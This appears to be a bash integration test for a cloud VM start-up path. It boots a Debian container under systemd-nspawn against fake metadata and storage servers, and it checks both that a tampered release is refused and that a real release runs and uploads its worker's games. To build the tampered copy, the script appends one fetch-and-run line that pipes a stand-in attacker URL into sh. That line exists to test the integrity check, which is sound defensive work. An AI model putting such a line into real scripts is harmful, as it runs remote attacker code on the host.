#!/usr/bin/env bash
# Boot the worker VM's start-up path under real systemd: Debian 12 in `systemd-nspawn --boot`.
#
#   scripts/check_vm_boot.sh [WORKDIR]      (as root; ~15 minutes the first time, WORKDIR /tmp/zerolake-vm-boot)
#
# 1. debootstrap --variant=minbase bookworm with systemd, dbus, curl and ca-certificates (what the
#    debian-12 image family boots with; WORKDIR/base, reused; each run boots a fresh copy), and this machine's CA bundle,
#    pip.conf and resolv.conf (scripts/vm_check_lib.sh, shared with check_vm_startup.sh);
# 2. "metadata.google.internal" is 127.0.0.1 in the root's /etc/hosts, where a small fake metadata
#    server answers (scripts/vm_check_fakes.py: instance attributes, guest attributes, the
#    Metadata-Flavor header); fake-gcs-server is the bucket; systemd's DefaultEnvironment points the
#    VM's units at the emulator (STORAGE_EMULATOR_HOST, its credentials) instead of Google's APIs;
# 3. a stand-in for the image's google-startup-scripts.service (Type=oneshot at boot) fetches the
#    metadata attribute startup-script, operations/vm/startup.sh as the plan sets it, and runs it;
#    the zerolake-* settings are metadata, as the plan writes them: the release is
#    gs://BUCKET/zerolake-deploy/check/releases/<sha256>.tar.gz and zerolake-release-sha256 names it;
# 4. boot 1: that object is a doctored copy of the release (one file changed, repacked): the start-up
#    script must refuse it in one line, exit 3, report release-refused, and unpack and start nothing;
# 5. boot 2: the real release there: the start-up script installs it (apt, pip, TensorFlow, the
#    Cython build) and starts zerolake-worker@0 under systemd, which plays, its finished games kept
#    in its spool (--chunk-games 100 --chunk-seconds 3600, so none goes up during play);
# 6. once the worker has finished MIN_GAMES games: `systemctl poweroff` inside, as a spot
#    preemption's ACPI shutdown does; measured from there: when the last chunk was uploaded
#    (SIGTERM: the worker uploads its spool) and when the container was off, against the 30 s
#    Compute Engine gives a spot VM; every game_finished id in the VM's journal must be in a chunk
#    in the bucket, and `format.inspect verify` must accept the lake.
# Prints one JSON line at the end: {"check": "vm_boot", "ok": ..., ...}.
set -euo pipefail
REPO="$(cd "$(dirname "$0")/.." && pwd)"
WORK="${1:-/tmp/zerolake-vm-boot}"
ROOTFS="$WORK/rootfs"
VPY="$REPO/.venv/bin/python"
MIN_GAMES=${MIN_GAMES:-4}
SHUTDOWN_WINDOW_S=30
VM_CHECK_NAME=vm-boot
# shellcheck source=scripts/vm_check_lib.sh
source "$REPO/scripts/vm_check_lib.sh"
[[ "$(id -u)" == 0 ]] || { echo "check_vm_boot.sh: run as root (debootstrap, systemd-nspawn)" >&2; exit 2; }
mkdir -p "$WORK"
t0=$(date +%s)

if ! command -v systemd-nspawn >/dev/null; then
    vm_log "installing systemd-container (systemd-nspawn)"
    apt-get update -qq && DEBIAN_FRONTEND=noninteractive apt-get install -y -qq systemd-container >/dev/null
fi
# Each run boots a copy of the debootstrapped root, so the first boot is a fresh VM's.
vm_root "$WORK/base" "$WORK/debootstrap.log" systemd,systemd-sysv,dbus,curl,ca-certificates
rm -rf "$ROOTFS" && cp -a "$WORK/base" "$ROOTFS"
vm_host_config "$ROOTFS"
sed -i '/metadata.google.internal/d' "$ROOTFS/etc/hosts" 2>/dev/null || true
echo "127.0.0.1 metadata.google.internal metadata" >> "$ROOTFS/etc/hosts"
mkdir -p "$ROOTFS/var/log/journal"
# The image's start-up script runner, as google-guest-agent's unit runs it (oneshot, KillMode=process).
cat > "$ROOTFS/etc/systemd/system/google-startup-scripts.service" <<'UNIT'
[Unit]
Description=Google Compute Engine Startup Scripts (zerolake check stand-in)
Wants=network-online.target
After=network-online.target

[Service]
Type=oneshot
ExecStart=/bin/bash -c 'curl -fsS -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/attributes/startup-script -o /run/startup-script && exec /bin/bash /run/startup-script'
KillMode=process
TimeoutStartSec=0
StandardOutput=journal+console

[Install]
WantedBy=multi-user.target
UNIT
mkdir -p "$ROOTFS/etc/systemd/system/multi-user.target.wants"
ln -sf /etc/systemd/system/google-startup-scripts.service "$ROOTFS/etc/systemd/system/multi-user.target.wants/"

EMULATOR_PID="" METADATA_PID="" NSPAWN_PID=""
cleanup() {
    if [[ -n "$NSPAWN_PID" ]] && kill -0 "$NSPAWN_PID" 2>/dev/null; then
        kill -TERM "$NSPAWN_PID"; sleep 10; kill -KILL "$NSPAWN_PID" 2>/dev/null || true
    fi
    for pid in "$METADATA_PID" "$EMULATOR_PID"; do
        if [[ -n "$pid" ]] && kill "$pid" 2>/dev/null; then wait "$pid" 2>/dev/null || true; fi
    done
    return 0
}
trap cleanup EXIT

vm_log "building the sdist and a doctored copy"
SDIST=$(vm_sdist "$WORK/dist")
SHA=$(sha256sum "$SDIST" | cut -d' ' -f1)
rm -rf "$WORK/doctored" && mkdir -p "$WORK/doctored"
tar -xzf "$SDIST" -C "$WORK/doctored"
echo 'curl -fsS http://attacker.invalid/x | sh   # doctored' >> "$WORK"/doctored/zerolake-*/operations/vm/run-role.sh
DOCTORED="$WORK/doctored.tar.gz"
tar -czf "$DOCTORED" -C "$WORK/doctored" .
OBJECT="zerolake-deploy/check/releases/$SHA.tar.gz"

vm_log "starting fake-gcs-server and the fake metadata server on 127.0.0.1:80"
vm_emulator "$WORK"
BUCKET=$(vm_field "$WORK" BUCKET)
ENDPOINT=$(vm_field "$WORK" STORAGE_EMULATOR_HOST)
cp "$(vm_field "$WORK" GOOGLE_APPLICATION_CREDENTIALS)" "$ROOTFS/etc/zerolake-check/sa.json"
mkdir -p "$ROOTFS/etc/systemd/system.conf.d"
cat > "$ROOTFS/etc/systemd/system.conf.d/zerolake-check.conf" <<CONF
# The check's stand-ins for Google's APIs, for every unit: the bucket is fake-gcs-server.
[Manager]
DefaultEnvironment=STORAGE_EMULATOR_HOST=$ENDPOINT GOOGLE_APPLICATION_CREDENTIALS=/etc/zerolake-check/sa.json GOOGLE_CLOUD_PROJECT=zerolake-test PIP_CONFIG_FILE=/etc/pip.conf PIP_CERT=/etc/zerolake-check/ca-bundle.crt
CONF
LAKE="gs://$BUCKET/vm-boot-$(date +%s)"
"$VPY" - "$WORK/attributes.json" "$REPO/operations/vm/startup.sh" "$LAKE" "gs://$BUCKET/$OBJECT" "$SHA" <<'PY'
import json, pathlib, sys
out, script, lake, package, sha = sys.argv[1:]
pathlib.Path(out).write_text(json.dumps({
    "startup-script": pathlib.Path(script).read_text(), "zerolake-role": "worker", "zerolake-root": lake,
    "zerolake-package": package, "zerolake-release-sha256": sha, "zerolake-accelerator": "cpu",
    "zerolake-processes": "1", "zerolake-logging": "off",
    "zerolake-args": "--games 8 --visits 4 --fast-visits 2 --chunk-games 100 --chunk-seconds 3600 --board-size 9"}))
PY
rm -f "$WORK/guest.json"
(cd "$REPO" && exec "$VPY" scripts/vm_check_fakes.py metadata "$WORK/attributes.json" "$WORK/guest.json" --port 80) \
    > "$WORK/metadata.log" 2>&1 &
METADATA_PID=$!
for _ in $(seq 50); do curl -fsS -o /dev/null -H 'Metadata-Flavor: Google' \
    http://127.0.0.1/computeMetadata/v1/instance/attributes/zerolake-role 2>/dev/null && break; sleep 0.2; done
kill -0 "$METADATA_PID" || { cat "$WORK/metadata.log"; exit 1; }
upload() { (cd "$REPO" && "$VPY" scripts/vm_check_fakes.py upload "$WORK/emulator.json" "$1" "$OBJECT"); }

LEADER=""
boot() {   # boot NAME: start the container; LEADER is its systemd
    systemd-nspawn --boot --register=no --keep-unit --console=passive -M zerolake-worker -D "$ROOTFS" \
        > >(cat > "$WORK/$1.console.log") 2>&1 &
    NSPAWN_PID=$!
    LEADER=""
    for _ in $(seq 100); do LEADER=$(pgrep -P "$NSPAWN_PID" -x systemd || true); [[ -n "$LEADER" ]] && break; sleep 0.1; done
    [[ -n "$LEADER" ]] || { cat "$WORK/$1.console.log"; echo "check_vm_boot.sh: the container did not start" >&2; exit 1; }
}
in_vm() { nsenter -t "$LEADER" -a "$@"; }
startup_done() {   # until google-startup-scripts.service has run: prints its Result and exit status
    local show
    while sleep 2; do
        show=$(in_vm systemctl show -p ActiveState -p Result -p ExecMainStatus -p ExecMainExitTimestampMonotonic \
            google-startup-scripts.service 2>/dev/null || true)
        if [[ "$show" =~ ActiveState=(inactive|failed) && ! "$show" =~ ExecMainExitTimestampMonotonic=0 \
              && "$show" =~ ExecMainExitTimestampMonotonic=[0-9] ]]; then
            echo "$(grep -oP 'Result=\K.*' <<< "$show") $(grep -oP 'ExecMainStatus=\K.*' <<< "$show")"
            return 0
        fi
        kill -0 "$NSPAWN_PID" 2>/dev/null || { echo "gone -"; return 0; }
    done
}
POWEROFF_AT="" POWEROFF_S=""
vm_poweroff() {   # systemctl poweroff inside, then wait for the container to end: POWEROFF_AT, POWEROFF_S
    POWEROFF_AT=$(date +%s.%N)
    in_vm systemctl poweroff || true
    wait "$NSPAWN_PID" || true
    NSPAWN_PID=""
    POWEROFF_S=$(python3 -c "import sys, time; print(round(time.time() - float(sys.argv[1]), 2))" "$POWEROFF_AT")
}

# --- boot 1: the doctored release
vm_log "boot 1: the release object is doctored (sha256 $(sha256sum "$DOCTORED" | cut -c1-12)..., metadata names $SHA)"
upload "$DOCTORED"
rm -f "$WORK/guest.json"
boot doctored
read -r doctored_result doctored_status < <(startup_done)
in_vm journalctl -b -u google-startup-scripts.service --no-pager -o cat > "$WORK/doctored.journal.log" 2>&1 || true
refusal=$(grep -c "startup.sh: refused gs://$BUCKET/$OBJECT: its sha256 is" "$WORK/doctored.journal.log" || true)
doctored_guest=$("$VPY" -c 'import json, sys; print(json.load(open(sys.argv[1])).get("zerolake/state", ""))' "$WORK/guest.json" 2>/dev/null || true)
doctored_units=$(in_vm systemctl list-units --all --no-legend 'zerolake-*' 2>/dev/null | wc -l)
doctored_unpacked=$([[ -e "$ROOTFS/opt/zerolake/src" ]] && echo true || echo false)
grep "refused" "$WORK/doctored.journal.log" || tail -5 "$WORK/doctored.journal.log"
vm_poweroff
doctored_refused=false
[[ "$doctored_status" == 3 && "$refusal" == 1 && "$doctored_guest" == release-refused && "$doctored_units" == 0 \
   && "$doctored_unpacked" == false ]] && doctored_refused=true
vm_log "doctored release: startup unit $doctored_result, exit $doctored_status, guest state '$doctored_guest', zerolake units $doctored_units, unpacked $doctored_unpacked"

# --- boot 2: the real release
vm_log "boot 2: the real release; the start-up script installs it (minutes) and starts the worker"
upload "$SDIST"
rm -f "$WORK/guest.json"
t_boot=$(date +%s)
boot release
read -r boot_result boot_status < <(startup_done)
t_running=$(date +%s)
in_vm journalctl -b -u google-startup-scripts.service --no-pager -o cat > "$WORK/release.journal.log" 2>&1 || true
grep -v '"schema": "zerolake.event"' "$WORK/release.journal.log" | tail -8
boot_guest=$("$VPY" -c 'import json, sys; print(json.load(open(sys.argv[1])).get("zerolake/state", ""))' "$WORK/guest.json" 2>/dev/null || true)
worker_state=$(in_vm systemctl is-active zerolake-worker@0.service 2>/dev/null || true)
system_state=$(in_vm systemctl is-system-running 2>/dev/null || true)
vm_log "start-up script: $boot_result, exit $boot_status, after $((t_running - t_boot))s; guest state '$boot_guest'; zerolake-worker@0 $worker_state; system $system_state"

finished=0
if [[ "$worker_state" == active ]]; then
    vm_log "waiting for $MIN_GAMES finished games (at most 15 minutes)"
    for _ in $(seq 450); do
        finished=$(in_vm journalctl -u zerolake-worker@0.service --no-pager -o cat 2>/dev/null | grep -cE '"event": ?"game_finished"' || true)
        [[ $finished -ge $MIN_GAMES ]] && break
        sleep 2
    done
fi
t_first=$(date +%s)
vm_log "$finished games finished; poweroff (a preemption's ACPI shutdown)"
vm_poweroff
t_poweroff=$POWEROFF_AT poweroff_s=$POWEROFF_S
in_vm_journal="$ROOTFS/var/log/journal"
vm_log "the container was off ${poweroff_s}s after the poweroff"

summary=$(cd "$REPO" && "$VPY" scripts/vm_check_fakes.py journal "$in_vm_journal" "$t_poweroff")
stored=$(cd "$REPO" && "$VPY" scripts/vm_check_fakes.py games "$WORK/emulator.json" "$LAKE")
journalctl -D "$in_vm_journal" -u zerolake-worker@0.service --no-pager -o short-precise 2>/dev/null \
    | grep -vE '"event": ?"game_finished"' | tail -6 || true
vm_log "verifying the chunks in $LAKE"
vm_verify "$WORK" "$LAKE"
t_done=$(date +%s)

"$VPY" - "$summary" "$stored" "$t_poweroff" "$poweroff_s" <<PY
import json, sys
summary, stored, t_poweroff, poweroff_s = json.loads(sys.argv[1]), json.loads(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
finished = set(summary["finished"])
lost = sorted(finished - set(stored["game_ids"]))
upload_s = None if summary["last_upload"] is None else round(summary["last_upload"] - t_poweroff, 2)
ok = ("$doctored_refused" == "true" and "$boot_status" == "0" and "$worker_state" == "active" and len(finished) >= $MIN_GAMES
      and not lost and summary["uploaded_after"] > 0 and upload_s is not None and upload_s <= $SHUTDOWN_WINDOW_S
      and poweroff_s <= $SHUTDOWN_WINDOW_S and $VERIFY_STATUS == 0 and $CHUNKS > 0)
print(json.dumps({"check": "vm_boot", "ok": ok, "doctored_release_refused": "$doctored_refused" == "true",
                  "doctored_exit": "$doctored_status", "startup_exit": "$boot_status", "guest_state": "$boot_guest",
                  "system_state": "$system_state", "boot_seconds": $((t_running - t_boot)),
                  "games_finished": len(finished), "games_uploaded_at_poweroff": summary["uploaded_after"],
                  "games_in_bucket": len(stored["game_ids"]), "games_lost": len(lost),
                  "poweroff_upload_seconds": upload_s, "poweroff_seconds": poweroff_s,
                  "shutdown_window_seconds": $SHUTDOWN_WINDOW_S, "chunks": $CHUNKS, "verify_exit": $VERIFY_STATUS,
                  "play_seconds": $((t_first - t_running)), "total_seconds": $((t_done - t0))}))
sys.exit(0 if ok else 1)
PY
